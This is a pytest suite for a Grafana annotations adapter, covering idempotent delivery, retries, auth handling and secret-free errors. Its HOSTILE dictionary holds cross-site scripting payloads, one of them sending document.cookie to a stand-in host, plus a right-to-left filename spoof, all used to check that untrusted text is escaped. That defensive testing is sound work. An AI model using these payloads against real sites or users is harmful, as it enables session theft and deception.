"""Annotations in a strict Grafana over a real socket: one per attempt, whatever goes wrong."""

import re
from base64 import b64decode
from collections.abc import AsyncIterator
from dataclasses import replace
from datetime import timedelta

import httpx
import pytest

from app.adapters.grafana import GrafanaAnnotations
from app.domain.decision import Verdict
from app.domain.message import Message
from app.domain.remediation import Attempt
from app.errors import MessageRefused, SourceUnavailable
from app.policies.annotation import message
from tests.adapters.far_side import Answer, far_side, free_port
from tests.adapters.grafana_api import TOKEN, Grafana, running_grafana
from tests.builders import START, at, attempt, remediation

START_MS = round(START.timestamp() * 1000)
SOON = timedelta(milliseconds=300)


def told(one: Attempt) -> Message:
    found = message(remediation(attempts=(one,)), one, external_url="https://relevo.example")
    assert found is not None
    return found


ACTED = told(attempt())
JUDGED = told(attempt(verdict=Verdict.RECOVERED, finished_at=at(300), evidence="quiet for <4 min>"))
RELAPSED = told(attempt(verdict=Verdict.RELAPSED, finished_at=at(300)))


@pytest.fixture
async def grafana() -> AsyncIterator[Grafana]:
    async with running_grafana() as one:
        yield one


@pytest.fixture
async def client() -> AsyncIterator[httpx.AsyncClient]:
    async with httpx.AsyncClient() as one:
        yield one


@pytest.fixture
def sink(grafana: Grafana, client: httpx.AsyncClient) -> GrafanaAnnotations:
    return GrafanaAnnotations(grafana.url, TOKEN, client, limit=SOON)


async def test_an_action_is_a_point_until_its_verdict_makes_it_a_region(
    sink: GrafanaAnnotations, grafana: Grafana
) -> None:
    await sink.deliver(ACTED)

    (one,) = grafana.annotations.values()
    assert (one["time"], one["timeEnd"]) == (START_MS - 1000, START_MS - 1000)
    assert one["tags"] == list(ACTED.payload.tags)
    assert one["text"] == ACTED.payload.text

    await sink.deliver(JUDGED)

    (one,) = grafana.annotations.values()
    assert (one["time"], one["timeEnd"]) == (START_MS - 1000, START_MS + 300_000)
    assert "verdict:recovered" in one["tags"]
    assert "quiet for &lt;4 min&gt;" in one["text"]


async def test_a_verdict_whose_action_was_never_told_is_a_region_at_once(
    sink: GrafanaAnnotations, grafana: Grafana
) -> None:
    await sink.deliver(JUDGED)

    assert grafana.told() == [(list(JUDGED.payload.tags), START_MS - 1000, START_MS + 300_000)]


@pytest.mark.parametrize("one", [ACTED, JUDGED], ids=["acted", "judged"])
async def test_the_same_message_twice_is_one_annotation(
    sink: GrafanaAnnotations, grafana: Grafana, one: Message
) -> None:
    await sink.deliver(one)
    before = grafana.told()
    await sink.deliver(one)

    assert grafana.told() == before


async def test_an_answer_that_is_lost_makes_no_second_annotation(
    sink: GrafanaAnnotations, grafana: Grafana
) -> None:
    grafana.lose = 1
    with pytest.raises(SourceUnavailable):
        await sink.deliver(ACTED)  # lost with the search: nothing was posted

    class Losing(httpx.AsyncHTTPTransport):
        async def handle_async_request(self, request: httpx.Request) -> httpx.Response:
            grafana.lose = int(request.method == "POST")
            return await super().handle_async_request(request)

    async with httpx.AsyncClient(transport=Losing()) as client:
        with pytest.raises(SourceUnavailable):
            await GrafanaAnnotations(grafana.url, TOKEN, client, limit=SOON).deliver(ACTED)

    await sink.deliver(ACTED)

    assert len(grafana.annotations) == 1


async def test_an_older_message_that_comes_late_changes_nothing(
    sink: GrafanaAnnotations, grafana: Grafana
) -> None:
    for one in (ACTED, JUDGED, RELAPSED):
        await sink.deliver(one)
    newest = grafana.told()

    for one in (ACTED, JUDGED):
        await sink.deliver(one)

    assert grafana.told() == newest
    assert "verdict:relapsed" in newest[0][0]


async def test_other_attempts_and_other_peoples_annotations_are_left_alone(
    sink: GrafanaAnnotations, grafana: Grafana
) -> None:
    await sink.deliver(ACTED)
    await sink.deliver(told(attempt(id="web-1.11")))
    theirs = {"id": 9, "tags": ["deploy"], "text": "v2", "time": START_MS, "timeEnd": START_MS}
    grafana.annotations[9] = dict(theirs)

    await sink.deliver(JUDGED)

    assert len(grafana.annotations) == 3
    assert grafana.annotations[9] == theirs
    assert grafana.annotations[2]["timeEnd"] == START_MS - 1000


async def test_a_grafana_that_compares_without_case_leads_to_no_wrong_one(
    client: httpx.AsyncClient,
) -> None:
    async with far_side() as side:
        side.answers["/api/annotations"] = Answer('[{"id": 3, "tags": ["attempt:WEB-1.1"]}]')
        side.answers["POST /api/annotations"] = Answer('{"id": 4}')

        await GrafanaAnnotations(side.url, TOKEN, client).deliver(ACTED)

        assert [one.path for one in side.posted] == ["/api/annotations"]


async def test_two_of_one_attempt_are_told_the_same(
    sink: GrafanaAnnotations, grafana: Grafana
) -> None:
    await sink.deliver(ACTED)
    grafana.annotations[2] = grafana.annotations[1] | {"id": 2}

    await sink.deliver(JUDGED)

    assert [end for _, _, end in grafana.told()] == [START_MS + 300_000] * 2


async def test_a_path_before_the_api_is_kept(client: httpx.AsyncClient) -> None:
    async with running_grafana("/grafana") as grafana:
        await GrafanaAnnotations(f"{grafana.url}/", TOKEN, client).deliver(ACTED)

        assert len(grafana.annotations) == 1


async def test_user_and_password_in_the_address_stand_in_for_a_token(
    client: httpx.AsyncClient,
) -> None:
    async with far_side() as side:
        side.answers["/api/annotations"] = Answer("[]")
        side.answers["POST /api/annotations"] = Answer("{}")
        url = side.url.replace("http://", "http://relevo:pw@")

        await GrafanaAnnotations(url, None, client).deliver(ACTED)

        assert side.posted[0].headers["authorization"].startswith("Basic ")


async def test_a_password_may_be_written_as_percents(client: httpx.AsyncClient) -> None:
    """As deploy/airgap/secrets.sh writes it: a password may hold what no URL takes."""
    async with far_side() as side:
        side.answers["/api/annotations"] = Answer("[]")
        side.answers["POST /api/annotations"] = Answer("{}")
        percents = "".join(f"%{byte:02x}" for byte in b"p@ss/w:rd")
        url = side.url.replace("http://", f"http://admin:{percents}@")

        await GrafanaAnnotations(url, None, client).deliver(ACTED)

        said = side.posted[0].headers["authorization"].removeprefix("Basic ")
        assert b64decode(said) == b"admin:p@ss/w:rd"


@pytest.mark.parametrize("status", [401, 403, 408, 429, 500, 502, 503, 504, 302, 204])
async def test_what_may_pass_is_tried_again(
    sink: GrafanaAnnotations, grafana: Grafana, status: int
) -> None:
    grafana.status = status
    with pytest.raises(SourceUnavailable, match=f"Grafana at .* answered {status}"):
        await sink.deliver(ACTED)

    grafana.status = None
    await sink.deliver(ACTED)

    assert len(grafana.annotations) == 1


@pytest.mark.parametrize("status", [400, 404, 409, 413, 415, 422])
async def test_what_is_refused_for_good_is_not_tried_again(
    sink: GrafanaAnnotations, grafana: Grafana, status: int
) -> None:
    grafana.status = status

    with pytest.raises(MessageRefused, match=str(status)):
        await sink.deliver(ACTED)


async def test_a_wrong_token_is_a_matter_for_a_person(
    grafana: Grafana, client: httpx.AsyncClient
) -> None:
    with pytest.raises(
        SourceUnavailable, match=r"answered 401.*: RELEVO_GRAFANA_TOKEN .* not taken"
    ):
        await GrafanaAnnotations(grafana.url, "other", client).deliver(ACTED)


async def test_a_token_without_the_right_says_which_role_it_needs(
    sink: GrafanaAnnotations, grafana: Grafana
) -> None:
    grafana.status = 403

    with pytest.raises(SourceUnavailable, match=r"answered 403.*: .*the role Editor"):
        await sink.deliver(ACTED)


async def test_one_that_takes_its_time_is_waited_for(
    sink: GrafanaAnnotations, grafana: Grafana
) -> None:
    grafana.takes = SOON.total_seconds() / 3

    await sink.deliver(JUDGED)

    assert len(grafana.annotations) == 1


#: What a stranger may write into an alert's name, an order's reason, or an answer of the engine.
HOSTILE = {
    "script": "<script>fetch('//x/'+document.cookie)</script>",
    "attribute": '"\'><img src=x onerror="alert(1)">',
    "link": '<a href="javascript:alert(1)">the story</a>',
    "template": "{{ . }} ${datasource} $__all %s",
    "entities": "&lt;script&gt;&#x3C;b&#x3E;",
    "right-to-left": "\u202eevig\u2066 gpj.exe\u2069\u200f",
    "controls": "a\x00b\x1b[2Jc\r\nd\u2028e\ud800",
    "long": "<b>" * 3_400,
}


@pytest.mark.parametrize("words", HOSTILE.values(), ids=HOSTILE)
async def test_a_strangers_words_arrive_as_text_and_as_one_annotation(
    sink: GrafanaAnnotations, grafana: Grafana, words: str
) -> None:
    one = attempt(verdict=Verdict.EXITED, finished_at=at(9), evidence=words)
    record = remediation(attempts=(one,), alerts=(words,), container=words)
    found = message(record, one, external_url="https://relevo.example")
    assert found is not None

    for _ in range(2):
        await sink.deliver(found)

    (kept,) = grafana.annotations.values()
    text = kept["text"]
    ours = r"</?b>|<br>|<a href=\"https://relevo\.example/remediations/[\w.-]+\">|</a>"
    assert not re.search(r"[<>\"']", re.sub(ours, "", text))
    assert all(char.isprintable() for char in text)
    assert text.count("<a ") == 1
    assert len(text) < 10_000
    # Nothing of it is a tag: those are of one vocabulary.
    assert kept["tags"] == list(found.payload.tags)
    assert {tag.partition(":")[0] for tag in kept["tags"]} <= {
        *("relevo", "action", "verdict", "engine", "target", "attempt")
    }


async def test_a_tarpit_is_left_after_its_time(sink: GrafanaAnnotations, grafana: Grafana) -> None:
    grafana.hangs = True

    with pytest.raises(SourceUnavailable, match=r"no answer within 0\.3 s"):
        await sink.deliver(ACTED)


async def test_one_that_is_down_is_named(client: httpx.AsyncClient) -> None:
    url = f"http://127.0.0.1:{free_port()}"

    with pytest.raises(SourceUnavailable, match="Grafana at http"):
        await GrafanaAnnotations(url, TOKEN, client).deliver(ACTED)


@pytest.mark.parametrize(
    "body",
    ["nonsense", "{}", '[{"id": "x"}]', "[1]", "null"],
)
async def test_an_answer_in_another_form_is_no_answer(client: httpx.AsyncClient, body: str) -> None:
    async with far_side() as side:
        side.answers["/api/annotations"] = Answer(body)

        with pytest.raises(SourceUnavailable, match="Grafana"):
            await GrafanaAnnotations(side.url, TOKEN, client).deliver(ACTED)


async def test_no_error_tells_the_token_or_the_password(client: httpx.AsyncClient) -> None:
    async with far_side() as side:
        side.answers["/api/annotations"] = Answer("no", status=500)
        url = side.url.replace("http://", "http://relevo:geheim@")

        with pytest.raises(SourceUnavailable) as failed:
            await GrafanaAnnotations(url, TOKEN, client).deliver(ACTED)

    assert "geheim" not in str(failed.value)
    assert TOKEN not in str(failed.value)


async def test_the_longest_names_are_taken(sink: GrafanaAnnotations, grafana: Grafana) -> None:
    slot = "x" * 255
    one = attempt(id=f"{slot}-lq2x9a.1", verdict=Verdict.SYMPTOM_PERSISTS, finished_at=at(9))
    found = message(remediation(target=f"{'e' * 255}:{slot}"), one, external_url=None)
    assert found is not None

    for _ in range(2):
        await sink.deliver(found)

    assert len(grafana.annotations) == 1


async def test_a_message_with_a_tag_that_is_too_long_is_a_server_error_there(
    sink: GrafanaAnnotations, grafana: Grafana
) -> None:
    # So the policy cuts them; that the fake knows it is what this test is about.
    long = replace(ACTED.payload, tags=("relevo", ACTED.id, "target:" + "x" * 101))

    with pytest.raises(SourceUnavailable, match="500"):
        await sink.deliver(replace(ACTED, payload=long))
